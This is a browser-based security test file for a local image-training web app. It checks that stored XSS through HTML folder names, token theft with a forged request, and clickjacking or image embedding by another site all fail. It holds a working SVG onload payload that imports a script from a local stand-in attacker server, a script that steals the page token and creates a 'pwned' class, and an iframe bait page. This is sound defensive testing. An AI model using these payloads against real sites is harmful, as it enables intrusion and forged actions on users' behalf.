"""Attacks on the studio through a real browser (Debian's headless Chromium, as the journey test).

- Stored XSS: class folders whose names are HTML (a dataset downloaded from
  elsewhere) go through a real training run into the report, the Train page
  and the Photos page. The name loads a script from another local port (the
  "attacker") if it ever runs; that script would read the token and create a
  class. The attacker must see no request and no class appear.
- Clickjacking and embedding: a page on the attacker's port frames the
  studio's pages and the report, and shows its photos and thumbnails. The
  frames must stay empty (Chromium's error page) and the images must not load.
"""
import base64
import http.server
import os
import shutil
import threading

import pytest

from tests.support.attacks import MICE
from tests.support.studio_client import studio  # noqa: F401 (fixture)
from tests.test_studio_browser import browser, wait  # noqa: F401 (fixture)
from tests.test_studio_safety import wait_for


class Attacker:
    """Another site on this machine: serves pages, records every request it gets."""

    def __init__(self):
        self.pages, self.hits = {}, []
        owner = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                owner.hits.append(self.path)
                body = owner.pages.get(self.path.split("?")[0], "").encode()
                self.send_response(200 if body else 404)
                kind = {"js": "text/javascript", "svg": "image/svg+xml"}.get(self.path.split("?")[0].rsplit(".", 1)[-1],
                                                                             "text/html")
                self.send_header("Content-Type", kind)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def url(self, path):
        return f"http://127.0.0.1:{self.port}{path}"

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def attacker():
    a = Attacker()
    yield a
    a.close()


def xss_name(attacker):
    """A class name (one folder, <= 64 bytes, no slash) that imports the attacker's script if run."""
    for n in "abcdefghijklmnopqrstuvwxyz":
        b64 = base64.b64encode(f"//127.0.0.1:{attacker.port}/{n}.js".encode()).decode()
        if "/" not in b64 and "+" not in b64:
            return f"<svg onload=import(atob('{b64}'))>"
    raise AssertionError("no slash-free base64 found")


STEAL = """const page = await (await fetch(STUDIO + "/dataset")).text();
const token = page.match(/name="studio-token" content="([^"]+)"/)[1];
await fetch(STUDIO + "/api/class/add", {method: "POST", headers: {"X-Studio-Token": token,
  "Content-Type": "application/json"}, body: JSON.stringify({class: "pwned"})});
"""


def test_class_names_that_are_html_never_run(browser, studio, attacker, tmp_path):
    d, url = browser, studio.url.rstrip("/")
    for n in "abcdefghijklmnopqrstuvwxyz":
        attacker.pages[f"/{n}.js"] = STEAL.replace("STUDIO", repr(url))
    data = tmp_path / "photos"
    name = xss_name(attacker)
    assert len(name.encode()) <= 64
    for label, source in ((name, "black"), ("white", "white")):
        os.makedirs(data / label)
        for f in sorted(os.listdir(os.path.join(MICE, source)))[:6]:
            shutil.copy(os.path.join(MICE, source, f), data / label / f)
    c = studio.client
    assert c.post("/api/train/start", {"arch": "v1", "epochs": 1})[0] == 200
    assert wait_for(c, ("done", "failed"))["state"] == "done"
    assert name in (tmp_path / "out" / "report.html").read_text().replace("&lt;", "<").replace("&gt;", ">") \
        .replace("&#x27;", "'")                             # the name is in the report, escaped

    for page in ("/train", "/report", "/dataset", "/test"):
        d.get(url + page)
        wait(d, lambda d: d.execute_script("return document.readyState") == "complete")
    d.get(url + "/train")
    wait(d, lambda d: d.find_element("id", "report").get_attribute("src"), what="the report in the page")
    d.switch_to.frame(d.find_element("id", "report"))
    wait(d, lambda d: "confusion" in d.page_source.lower(), what="the report's text")
    d.switch_to.default_content()
    d.get(url + "/dataset")
    wait(d, lambda d: d.find_elements("css selector", "section[data-class] h2"), what="the classes")
    assert name in [e.text for e in d.find_elements("css selector", "section[data-class] h2")]
    assert [h for h in attacker.hits if h.endswith(".js")] == []   # the script was never fetched
    assert not (data / "pwned").exists()


def test_other_sites_cannot_frame_the_studio_or_embed_its_photos(browser, studio, attacker, tmp_path):
    d, url = browser, studio.url.rstrip("/")
    c = studio.client
    assert c.post("/api/class/add", {"class": "mug"})[0] == 200
    with open(os.path.join(MICE, "black", sorted(os.listdir(os.path.join(MICE, "black")))[0]), "rb") as f:
        photo = c.upload("mug", [("a.jpg", f.read())])[1]["saved"][0]
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "report.html").write_text("<html><body><h1 id='mine'>report</h1></body></html>")
    attacker.pages["/bait.html"] = (
        f'<iframe id="train" src="{url}/train" style="opacity:0.01"></iframe>'
        f'<iframe id="report" src="{url}/report"></iframe>'
        f'<img id="thumb" src="{url}/thumb/mug/{photo}"><img id="photo" src="{url}/photo/mug/{photo}">'
        f'<img id="control" src="/control.svg">')
    attacker.pages["/control.svg"] = '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"></svg>'
    d.get(attacker.url("/bait.html"))
    loaded = "const i = document.getElementById(arguments[0]); return i.complete;"
    for img in ("thumb", "photo", "control"):
        wait(d, lambda d: d.execute_script(loaded, img), what=f"the {img} image to settle")
    width = "return document.getElementById(arguments[0]).naturalWidth;"
    assert d.execute_script(width, "control") == 4                 # the page itself works
    assert d.execute_script(width, "thumb") == 0 and d.execute_script(width, "photo") == 0
    for frame, mark in (("train", "#start"), ("report", "#mine")):
        d.switch_to.frame(d.find_element("id", frame))
        wait(d, lambda d: d.execute_script("return document.readyState") == "complete")
        assert d.execute_script(f"return document.querySelector('{mark}')") is None, frame
        assert not d.execute_script("return location.href").startswith(url), frame
        d.switch_to.default_content()
    assert c.get("/api/train/status")[1]["state"] == "idle"
